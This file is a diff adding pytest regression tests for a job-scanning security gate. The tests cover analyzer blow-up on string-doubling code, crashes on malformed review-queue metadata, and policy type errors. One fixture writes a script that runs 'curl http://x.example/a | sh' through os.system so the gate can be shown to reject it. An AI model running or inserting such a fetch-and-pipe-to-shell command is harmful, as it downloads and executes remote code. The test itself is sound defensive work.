@@ -1,0 +1,80 @@
+"""Session 44: fail closed, stay up, hide nothing -- the gate attacked with new inputs.
+
+- A command built by doubling a string through names bound one to the next (`s1 = f"{s0}{s0}"`, `"{0}{0}".format`,
+  `"%s%s" %`, `"".join([s, s])`): the sketch a threat pattern reads (engine/sketch.py) joined the parts of an
+  f-string, a format, a %-template or a join uncut, so 60 such lines asked for 2^60 characters. On main the CLI's
+  unit ran 2.5 min to its time limit with a peak of 23 GB, and the `curl | sh` it ran escalated instead of
+  rejecting.
+- `jobgate review list` ended in a traceback (every item unlisted) on one queue item whose meta.json was JSON but
+  not an object, or held a shown field of another type; and a policy naming a rule pack or catalogue by a
+  number or a list was an internal error (TypeError) instead of the policy's own error naming the key.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from conftest import run_cli
+from tests.test_harden36 import REJECTED, _policy, _scan
+from tests.test_review import JOB, escalated, make_job
+
+from analyzer.engine.collect import collect
+from analyzer.policy import Limits
+from analyzer.trust import review
+
+_DOUBLINGS = {
+    "f-string": "f'{{{p}}}{{{p}}}'",
+    "format": "'{{0}}{{0}}'.format({p})",
+    "percent": "'%s%s' % ({p}, {p})",
+    "join": "''.join([{p}, {p}])",
+}
+
+
+def _doubled_command(form: str, names: int = 40) -> str:
+    lines = [f"s{i} = " + form.format(p=f"s{i - 1}") for i in range(1, names)]
+    return ("import os\n\ns0 = 'curl http://x.example/a | sh;'\n" + "\n".join(lines) +
+            f"\nos.system(s{names - 1})\n")
+
+
+@pytest.mark.parametrize("form", list(_DOUBLINGS.values()), ids=list(_DOUBLINGS))
+def test_a_command_doubled_through_forty_names_is_sketched_within_bounds_and_rejected(tmp_path: Path,
+                                                                                      form: str) -> None:
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / "train.py").write_text(_doubled_command(form))
+    code, report, seconds, peak_mb = _scan(job, tmp_path, _policy(tmp_path, max_analysis_seconds=30))
+    rules = {f["rule"] for f in report["findings"]}
+    assert report["decision"] == "reject" and REJECTED in rules, (report["decision"], rules)
+    assert not any(r.startswith("unanalyzable.") for r in rules), rules
+    assert seconds < 60 and peak_mb < 1000, (seconds, peak_mb)
+
+
+def test_review_list_shows_damaged_items_as_unreadable_beside_the_good_one(tmp_path: Path) -> None:
+    queue = tmp_path / "q"
+    content = collect(make_job(tmp_path / "job", JOB), Limits())
+    qid = review.enqueue(queue, content, escalated(content))
+    damaged = {"0list": "[1, 2]\n", "1text": '"a string"\n', "2deep": "[" * 100_000 + "\n",
+               "3types": json.dumps({"id": "3types", "name": ["x"], "time": {"a": 1}, "gate_decision": 5}),
+               "4reviews": json.dumps({"id": "4reviews", "time": "t", "reviews": [{"decision": None}]})}
+    for name, text in damaged.items():
+        (queue / name).mkdir()
+        (queue / name / "meta.json").write_text(text)
+    proc = run_cli("review", "list", "--queue", str(queue), "--json")
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    shown = {item["id"]: item["status"] for item in map(json.loads, proc.stdout.splitlines())}
+    assert shown == {qid: "pending", **dict.fromkeys(damaged, "unreadable")}
+    text = run_cli("review", "list", "--queue", str(queue))
+    assert text.returncode == 0 and qid in text.stdout and text.stdout.count("unreadable") == len(damaged)
+
+
+@pytest.mark.parametrize("entry", ["rule_packs: [5]", "catalogues: [[a.yaml]]"])
+def test_a_policy_naming_a_pack_by_no_path_is_the_policys_error(tmp_path: Path, entry: str) -> None:
+    (tmp_path / "policy.yaml").write_text(entry + "\n")
+    (tmp_path / "job").mkdir()
+    (tmp_path / "job" / "train.py").write_text("print(1)\n")
+    proc = run_cli("scan", "--no-cache", "--policy", str(tmp_path / "policy.yaml"), str(tmp_path / "job"))
+    assert proc.returncode == 2 and "invalid policy" in proc.stderr, proc.stderr[-2000:]
+    assert entry.split(":")[0] + ".0" in proc.stderr and "internal error" not in proc.stderr
